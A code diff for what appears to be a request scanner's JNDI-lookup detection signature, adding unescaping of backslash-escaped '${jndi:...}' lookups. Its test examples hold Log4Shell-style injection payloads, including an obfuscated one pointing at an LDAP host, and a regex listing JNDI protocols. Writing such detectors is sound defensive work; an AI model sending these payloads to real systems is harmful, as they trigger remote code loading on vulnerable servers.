@@ -5,6 +5,7 @@ import { ADDRESS_KINDS, type Leaf } from '../request/leaf.ts';
 import type { Finding, Signature } from '../signature.ts';
 
 const MARKS = marksOf('${:');
+const ESCAPED = /\\([{}:$])/g;
 /** The name of an object elsewhere as a whole value, for whoever looks names up. */
 const BARE = /^\s{0,4}(?:java:comp\/env\/)?jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|https?):/i;
 /** The same inside of the server that is asked: only its own settings name such. */
@@ -36,6 +37,7 @@ export const jndiLookup: Signature = {
   impact: [35, 45],
   examples: {
     hits: [
+      '$\\{$\\{::-j\\}ndi:ldap://203.0.113.9/a\\}',
       '${event:Message}',
       { body: '{"q":"${lower:X}"}', contentType: 'application/json' },
       '${jndi:ldap://evil.test/a}',
@@ -72,7 +74,7 @@ export const jndiLookup: Signature = {
       return { pattern: 'name of an object of the server', confidence: 0.6, at: 0 };
     if (!hasAll(reading, MARKS)) return null;
     let best: Finding | null = null;
-    for (const lookup of lookupsOf(reading.text)) {
+    for (const lookup of lookupsOf(withoutEscapes(reading.text))) {
       const found = judge(lookup, reading);
       if (found !== null && found.confidence > (best?.confidence ?? 0)) best = found;
       if (best !== null && best.confidence >= SUREST) break;
@@ -80,6 +82,11 @@ export const jndiLookup: Signature = {
     return best;
   },
 };
+
+/** `$\\{jndi\\:…\\}`, as templates and configurations escape what others are to evaluate; offsets are those of the text without them. */
+function withoutEscapes(text: string): string {
+  return text.includes('$\\{') ? text.replace(ESCAPED, '$1') : text;
+}
 
 function judge({ text, disguises, at }: Lookup, { leaf, text: whole }: Reading): Finding | null {
   if (LEFT_OUT.test(text)) return null;
